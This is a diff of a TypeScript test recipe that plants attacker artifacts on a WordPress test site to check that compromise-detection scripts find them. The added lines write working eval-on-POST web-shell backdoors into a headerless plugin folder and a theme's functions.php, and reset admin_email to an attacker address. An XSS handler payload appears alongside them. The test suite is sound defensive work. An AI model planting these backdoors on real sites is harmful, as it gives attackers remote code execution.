@@ -12,7 +12,8 @@
  * administrator, a link, wp-cli.yml files, names with escape codes, a role
  * named *, an editor's Application Password, sign-ups opened as administrator, a role EDITOR and its account,
  * a script in a post, a post field, an option, an excerpt, a category's description and a comment, an
- * administrator whose login holds escape codes), then on the same site clean:
+ * administrator whose login holds escape codes, the admin email, a headerless plugin folder, a loose file in plugins
+ * and a theme), then on the same site clean:
  * each check must name exactly what was planted, no listing may print a raw
  * control character, and nothing is named on the clean site.
  * The compromised run comes first, so a breaking edit fails there and its
@@ -60,13 +61,23 @@ const INJECTED_META = '_elementor_data';
 /** Script in an attribute, not a script element (review r52 MEDIUM 2): in an option the searches must find too. */
 const INJECTED_HANDLER = '<img src=x onerror=fetch(1)>';
 const INJECTED_HANDLER_OPTION = 'wpc_header_code';
-/** Where else injected code renders (review r53 LOW 3): the Sample Page's excerpt, Uncategorized's description, the first comment. */
+/** Where else injected code renders (review r52 LOW 3): the Sample Page's excerpt, Uncategorized's description, the first comment. */
 const INJECTED_ELSEWHERE = {excerptOf: 2, termId: 1, commentId: 1};
 /**
  * An administrator the attacker wrote straight into the tables (WordPress's own sanitize_user would refuse the name),
- * its login holding escape codes that erase the line (review r53 LOW 5): as cat -v shows it, and as SQL writes it.
+ * its login holding escape codes that erase the line (review r52): as cat -v shows it, and as SQL writes it.
  */
 const ESCAPED_LOGIN = {shown: 'wp^[[2Kroot', sql: "CONCAT('wp', CHAR(27), '[2Kroot')", email: 'wproot@example.net'};
+/**
+ * What the attacker adds where step 4 reinstalls plugins and themes (review r53 HIGH 1): a plugin folder whose PHP has
+ * no plugin header, so neither wp plugin list nor plugin verify-checksums sees it; a loose file in plugins (named with
+ * escape codes); a theme with a backdoor in its functions.php. The code-free listing of plugins and themes must name
+ * each; wp theme list shows the theme, wp plugin list not the folder.
+ */
+const HEADERLESS_PLUGIN = 'wp-cache-helper';
+const PLANTED_THEME = 'flavor';
+/** The address core mails its notices and recovery-mode links to, as the attacker set it (review r53 LOW 6), and as installed. */
+const ADMIN_EMAIL = {broken: 'support@example.net', clean: 'admin@example.com'};
 /** A trigger the site's database account may create (GRANT ALL; review r52 MEDIUM 1): one can put back what is deleted. */
 const PLANTED_TRIGGER = 'wp_keep_admin';
 /** Settings that let anyone sign up as an administrator (review r50 HIGH 1), and their values as installed. */
@@ -100,6 +111,9 @@ const PLANTED = {
     '/var/www/example.com/.htaccess',
     `${SITE.root}/wp-content/uploads/2026/11/${ESCAPED.shown}`,
     `${SITE.root}/wp-content/uploads/^[[2K/.htaccess`,
+    `${SITE.root}/wp-content/plugins/${HEADERLESS_PLUGIN}`,
+    `${SITE.root}/wp-content/plugins/${ESCAPED.shown}`,
+    `${SITE.root}/wp-content/themes/${PLANTED_THEME}`,
     `/var/www/example.com/${ESCAPED_YML.shown}`,
   ],
   /** Warnings of core verify-checksums --include-root. */
@@ -119,7 +133,8 @@ const PLANTED = {
  * translation's .l10n.php), files named with escape codes where each listing of step 3 prints names, a role named
  * `*` holding manage_options, an Application Password of an editor, anyone's sign-up made an administrator, a role
  * EDITOR (not editor) holding manage_options and its account, a script in a post, a post field and an option, in
- * an excerpt, a category's description and a comment, and an administrator whose login holds escape codes.
+ * an excerpt, a category's description and a comment, an administrator whose login holds escape codes, the admin
+ * email changed, and in plugins and themes a headerless plugin folder, a loose file and a theme folder.
  */
 const ATTACK = `set -e
 cd ${SITE.root}
@@ -137,6 +152,7 @@ wp --path=${SITE.root} --skip-plugins --skip-themes cap add ${UPPER_ROLE} manage
 wp --path=${SITE.root} --skip-plugins --skip-themes user create ${UPPER_ROLE_USER} ${UPPER_ROLE_USER}@example.net --role=${UPPER_ROLE} --porcelain >/dev/null
 wp --path=${SITE.root} --skip-plugins --skip-themes option update users_can_register ${OPEN_SIGNUP.broken.users_can_register} >/dev/null
 wp --path=${SITE.root} --skip-plugins --skip-themes option update default_role ${OPEN_SIGNUP.broken.default_role} >/dev/null
+wp --path=${SITE.root} --skip-plugins --skip-themes option update admin_email ${ADMIN_EMAIL.broken} >/dev/null
 wp --path=${SITE.root} --skip-plugins --skip-themes option add ${INJECTED_OPTION} '${INJECTED}' >/dev/null
 wp --path=${SITE.root} --skip-plugins --skip-themes post meta add 1 ${INJECTED_META} '${INJECTED}' >/dev/null
 wp --path=${SITE.root} --skip-plugins --skip-themes option add ${INJECTED_HANDLER_OPTION} '${INJECTED_HANDLER}' >/dev/null
@@ -177,6 +193,11 @@ echo '<?php // planted' > $'${ESCAPED.written}'
 echo '<?php // planted' > $'wp-content/plugins/${PLUGIN}/${ESCAPED.written}'
 mkdir $'wp-content/uploads/\\e[2K' && echo 'Require all denied' > $'wp-content/uploads/\\e[2K/.htaccess'
 echo 'path: public' > $'/var/www/example.com/${ESCAPED_YML.written}'
+mkdir wp-content/plugins/${HEADERLESS_PLUGIN} && echo '<?php @eval($_POST["h"] ?? "");' > wp-content/plugins/${HEADERLESS_PLUGIN}/index.php
+echo '<?php // planted' > $'wp-content/plugins/${ESCAPED.written}'
+mkdir wp-content/themes/${PLANTED_THEME} && echo '<?php @eval($_POST["t"] ?? "");' > wp-content/themes/${PLANTED_THEME}/functions.php
+printf '/*\\nTheme Name: Flavor\\n*/\\n' > wp-content/themes/${PLANTED_THEME}/style.css
+echo '<?php get_header();' > wp-content/themes/${PLANTED_THEME}/index.php
 `;
 
 /** The installed site with the plugin Debian bundles, its checksums served by the stand-in, and a fresh database. */
@@ -195,6 +216,9 @@ async function freshSite(ctx: RecipeContext, ns: WordPressNamespace) {
       `cp -r '${plugin.dir}' ${SITE.root}/wp-content/plugins/`,
       // Debian moves wp-content/index.php out of core (/var/lib/wordpress), so the stand-in's zip lacks it; wordpress.org's has it
       `install -o ${READER.uid} -g ${READER.gid} -m 644 '${path.join(ns.dir, 'wordpress.org', 'deb', 'var/lib/wordpress/wp-content/index.php')}' ${SITE.root}/wp-content/index.php`,
+      // and its themes folder holds index.php, the same two lines as plugins/index.php; Debian's package has no themes folder
+      `install -d -o ${READER.uid} -g ${READER.gid} -m 755 ${SITE.root}/wp-content/themes`,
+      `install -o ${READER.uid} -g ${READER.gid} -m 644 ${SITE.root}/wp-content/plugins/index.php ${SITE.root}/wp-content/themes/index.php`,
       `chown -R ${READER.uid}:${READER.gid} ${SITE.root}/wp-content/plugins/${PLUGIN}`,
     ].join(' && '),
   );
@@ -374,7 +398,12 @@ export function listedPaths(output: string): string[] {
 const rolesListed = (output: string) => [...output.matchAll(/^([A-Za-z_]+|\*)$/gm)].map((m) => m[1]);
 /** The rows of the options query: each name the query asks for, with its value. */
 const optionRows = (output: string) =>
-  new Map([...output.matchAll(/^(users_can_register|default_role|siteurl)\t(.*)$/gm)].map((m) => [m[1], m[2]]));
+  new Map([...output.matchAll(/^(users_can_register|default_role|siteurl|admin_email)\t(.*)$/gm)].map((m) => [m[1], m[2]]));
+/** The plugins and themes wp plugin list and wp theme list show (their rows: name, then status, tab-separated on a pipe). */
+const extensionsListed = (output: string) =>
+  [...output.matchAll(/^([.\w-]+)\t(?:active|inactive|parent|must-use|dropin|active-network)\t/gm)].map((m) => m[1]);
+/** What the two lists show on the broken-into site: the plugin, the must-use plugin and link planted in mu-plugins, the theme. */
+const EXTENSIONS_LISTED = [PLUGIN, '.cache', 'loader', PLANTED_THEME];
 /** Whether the options query showed users_can_register and default_role with these values, and siteurl. */
 const showsSignup = (output: string, values: {users_can_register: string; default_role: string}) => {
   const rows = optionRows(output);
@@ -413,6 +442,9 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
     `find: '${SITE.root}/wp-content/mu-plugins': No such file or directory`,
     `${SITE.root}/.htaccess`,
     `${SITE.root}/wp-content/plugins/${PLUGIN}/.htaccess`,
+    `${SITE.root}/wp-content/plugins/${PLUGIN}`,
+    `${SITE.root}/wp-content/plugins/index.php`,
+    `${SITE.root}/wp-content/themes/index.php`,
   ];
 
   // Broken into.
@@ -425,7 +457,7 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
     ctx.expect(
       sorted(extra) === sorted(PLANTED.listed),
       CODE_FREE_CHECKS,
-      'on the broken-into site, the code-free checks list each planted file: the dot-named must-use plugin, the link to PHP in uploads, the .phtml and the .ico holding PHP in uploads, the .user.ini, both wp-cli.yml, .maintenance, a translation .l10n.php, PHP in wp-content/upgrade, an .htaccess above the web root, and the names with escape codes (PHP in uploads, an .htaccess in uploads, a wp-cli*.yml above the web root)',
+      'on the broken-into site, the code-free checks list each planted file: the dot-named must-use plugin, the link to PHP in uploads, the .phtml and the .ico holding PHP in uploads, the .user.ini, both wp-cli.yml, .maintenance, a translation .l10n.php, PHP in wp-content/upgrade, an .htaccess above the web root, the names with escape codes (PHP in uploads, an .htaccess in uploads, a wp-cli*.yml above the web root), and in plugins and themes a headerless plugin folder, a loose file named with escape codes and a theme folder',
       () =>
         `the code-free checks missed ${PLANTED.listed.filter((p) => !extra.includes(p)).join(', ') || 'nothing'} and listed ${extra.filter((p) => !PLANTED.listed.includes(p)).join(', ') || 'nothing'} besides:\n${found}`,
     );
@@ -463,6 +495,19 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
       LOADING_CHECKS,
       'the options query shows users_can_register 1 and default_role administrator: anyone could sign up as an administrator',
       () => `the checks that load WordPress did not show users_can_register 1 and default_role administrator (and siteurl):\n${loaded}`,
+    );
+    ctx.expect(
+      optionRows(loaded).get('admin_email') === ADMIN_EMAIL.broken,
+      LOADING_CHECKS,
+      `the options query shows admin_email ${ADMIN_EMAIL.broken}, the attacker's address`,
+      () => `the checks that load WordPress did not show admin_email ${ADMIN_EMAIL.broken}:\n${loaded}`,
+    );
+    ctx.expect(
+      sorted(extensionsListed(loaded)) === sorted(EXTENSIONS_LISTED),
+      LOADING_CHECKS,
+      `wp plugin list and wp theme list show ${PLUGIN}, the must-use .cache and loader, and the planted theme ${PLANTED_THEME}, not the headerless ${HEADERLESS_PLUGIN}, which only the listing of plugins names`,
+      () =>
+        `wp plugin list and wp theme list showed ${extensionsListed(loaded).join(', ') || 'nothing'}, not ${EXTENSIONS_LISTED.join(', ')}:\n${loaded}`,
     );
     ctx.expect(
       new RegExp(`^1\\tpost\\tpublish\\tHello world!$`, 'm').test(loaded) &&
@@ -542,7 +587,7 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
   ctx.expect(
     sorted(listedPaths(foundClean)) === sorted(baseline),
     CODE_FREE_CHECKS,
-    'on the clean site, the code-free checks list only what WordPress ships (wp-content/index.php, the two .htaccess) and that mu-plugins does not exist',
+    'on the clean site, the code-free checks list only what WordPress ships (wp-content/index.php, the two .htaccess, akismet and index.php in plugins, index.php in themes) and that mu-plugins does not exist',
     () => `on the clean site the code-free checks printed:\n${foundClean}`,
   );
   ctx.expect(
@@ -558,13 +603,15 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
       !loadedClean.includes(APP_PASSWORD_USER) &&
       !loadedClean.includes(UPPER_ROLE_USER) &&
       showsSignup(loadedClean, OPEN_SIGNUP.clean) &&
+      optionRows(loadedClean).get('admin_email') === ADMIN_EMAIL.clean &&
+      sorted(extensionsListed(loadedClean)) === PLUGIN &&
       !/\tpost_title$|\tmeta_key$|\toption_name$|\ttaxonomy$|\tcomment_approved$|\tACTION_STATEMENT$|\tEVENT_DEFINITION$|\tROUTINE_TYPE$/m.test(
         loadedClean,
       ) &&
       sorted(rolesListed(loadedClean)) === 'administrator' &&
       /^Success: Verified 1 of 1 plugins\.$/m.test(loadedClean),
     LOADING_CHECKS,
-    'on the clean site, the WordPress checks list the one administrator, users_can_register 0 and default_role subscriber, no injected code, only administrator as a role that can take the site, and verify the plugin',
+    'on the clean site, the WordPress checks list the one administrator, users_can_register 0, default_role subscriber and the admin email as installed, the one plugin, no injected code, only administrator as a role that can take the site, and verify the plugin',
     () => `on the clean site the checks that load WordPress printed:\n${loadedClean}`,
   );
 }
@@ -609,6 +656,18 @@ export const wordpressSecurityRecipe: Recipe = {
       expect: /the code-free checks missed \S*upgrade\/wp-tmp\.php/,
     },
     {
+      what: 'drop the listing of plugins and themes (the block before review r53)',
+      ref: CODE_FREE_CHECKS,
+      edit: replace(/^find -H "\$SITE\/wp-content\/plugins" .*\n/m, ''),
+      expect: /the code-free checks missed \S*plugins\/wp-cache-helper, \S*plugins\/x\^\[\[1A\^\[\[2K\.php, \S*themes\/flavor/,
+    },
+    {
+      what: 'list plugins only, not themes',
+      ref: CODE_FREE_CHECKS,
+      edit: replace(' "$SITE/wp-content/themes" -mindepth', ' -mindepth'),
+      expect: /the code-free checks missed \S*themes\/flavor and listed nothing besides/,
+    },
+    {
       what: 'drop .htaccess from the loop over the folders above the web root',
       ref: CODE_FREE_CHECKS,
       edit: replace(' "${dir%/}"/.htaccess', ''),
@@ -623,7 +682,7 @@ export const wordpressSecurityRecipe: Recipe = {
     {
       what: 'drop --include-root',
       ref: CORE_CHECK,
-      edit: replace(' --include-root', ''),
+      edit: replace('core verify-checksums --include-root', 'core verify-checksums'),
       expect: /core verify-checksums warned of .*, not exactly/,
     },
     {
@@ -687,6 +746,18 @@ export const wordpressSecurityRecipe: Recipe = {
       expect: /did not show users_can_register 1 and default_role administrator/,
     },
     {
+      what: 'ask the settings query without admin_email',
+      ref: LOADING_CHECKS,
+      edit: replace("'home', 'admin_email', ", "'home', "),
+      expect: /did not show admin_email support@example\.net/,
+    },
+    ...(['plugin', 'theme'] as const).map((kind) => ({
+      what: `drop wp ${kind} list`,
+      ref: LOADING_CHECKS,
+      edit: replace(new RegExp(`^wp --path="\\$SITE" --skip-plugins --skip-themes ${kind} list .*\\n`, 'm'), ''),
+      expect: new RegExp(`wp plugin list and wp theme list showed ${kind === 'plugin' ? 'flavor' : 'akismet, \\.cache, loader'}, not `),
+    })),
+    {
       what: 'drop the search of posts for injected code',
       ref: LOADING_CHECKS,
       edit: replace(/^wp --path="\$SITE" db query "SELECT ID, post_type, post_status, post_title FROM wp_posts\n.*\n/m, ''),
@@ -705,7 +776,7 @@ export const wordpressSecurityRecipe: Recipe = {
       expect: /did not find the script injected into post 1, _elementor_data, wpc_footer_code and wpc_header_code/,
     },
     {
-      what: 'search post_content only, not the excerpt (the posts query before review r53)',
+      what: 'search post_content only, not the excerpt (the posts query before the fix of review r52 LOW 3)',
       ref: LOADING_CHECKS,
       edit: replace('WHERE CONCAT(post_content, post_excerpt) REGEXP', 'WHERE post_content REGEXP'),
       expect: /the searches for injected code missed the excerpt of post 2:/,
@@ -745,6 +816,12 @@ export const wordpressSecurityRecipe: Recipe = {
         ['the search of uploads by name', CODE_FREE_CHECKS, "'*.phar' \\) | cat -v", "'*.phar' \\)"],
         ['the search of uploads by content', CODE_FREE_CHECKS, '"$SITE/wp-content/uploads" | cat -v', '"$SITE/wp-content/uploads"'],
         ['the PHP in wp-content by date', CODE_FREE_CHECKS, '| sort | cat -v', '| sort'],
+        [
+          'the listing of plugins and themes',
+          CODE_FREE_CHECKS,
+          "-maxdepth 1 -printf '%C+ %p\\n' | sort | cat -v",
+          "-maxdepth 1 -printf '%C+ %p\\n' | sort",
+        ],
         ['the find of .user.ini, .htaccess and wp-cli*.yml', CODE_FREE_CHECKS, "-name 'wp-cli*.yml' | cat -v", "-name 'wp-cli*.yml'"],
         ['the loop over the folders above the web root', CODE_FREE_CHECKS, '; done | cat -v', '; done'],
         ['core verify-checksums', CORE_CHECK, ' 2>&1 | cat -v', ''],
